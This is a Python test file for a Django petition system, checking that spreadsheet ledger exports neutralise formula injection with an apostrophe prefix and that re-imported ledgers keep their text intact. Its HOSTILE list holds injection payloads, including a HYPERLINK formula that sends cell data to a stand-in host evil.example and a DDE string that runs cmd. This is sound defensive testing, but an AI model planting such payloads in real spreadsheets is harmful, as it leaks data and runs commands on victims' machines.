"""The ledger keeps a petitioner's text as text (issue 19): a request that begins like a
formula is exported behind an apostrophe as a text cell, and a ledger the system wrote
imports with the text exactly as it was."""

from __future__ import annotations

import io
from datetime import datetime

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from tests import personas
from tests.petitions.conftest import intake
from tests.petitions.test_ledger import GOOD, HEADER
from yingji.accounts.models import User
from yingji.audit.services import Actor
from yingji.petitions import services
from yingji.petitions.models import Petition

pytestmark = pytest.mark.django_db
# ruff: noqa: DTZ001

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看办理结果")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_a_request_that_begins_like_a_formula_is_exported_as_text(
    city: personas.City, township_clerk: User, client_for
) -> None:
    actor = Actor(user=township_clerk)
    for text in HOSTILE:
        petition = services.register(
            intake(request=text), office=city.baishizhen, actor=actor
        ).petition
        # Intake strips a leading tab or line break; a ledger imported long ago may not have.
        Petition.objects.filter(pk=petition.pk).update(request=text)
    response = client_for(township_clerk).get("/petitions/ledger.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    column = [c.value for c in sheet[1]].index("请求")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted("'" + text for text in HOSTILE)
    assert all(c.data_type == "s" for c in cells)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_a_ledger_as_the_system_writes_it_imports_with_its_text_unchanged(
    city: personas.City, township_clerk: User, client_for
) -> None:
    # As the system writes them: one apostrophe before a text that begins like a formula
    # or with an apostrophe, so the facts (which begin with one) get two.
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    for number, text in enumerate(HOSTILE, start=1):
        row = [f"BS-2024-{number:04d}", datetime(2024, 3, 1, 9), *GOOD[2:]]
        row[HEADER.index("请求")] = "'" + text
        row[HEADER.index("事实和理由")] = "''" + text
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    upload = SimpleUploadedFile("ledger.xlsx", buffer.getvalue())
    response = client_for(township_clerk).post("/petitions/import/", {"file": upload})
    assert response.status_code in (200, 302), response.content.decode()
    stored = {p.number: (p.request, p.facts) for p in Petition.objects.all()}
    assert len(stored) == len(HOSTILE)
    for number, text in enumerate(HOSTILE, start=1):
        # Intake strips surrounding white space, as it does for any request.
        assert stored[f"BS-2024-{number:04d}"] == (text.strip(), "'" + text)
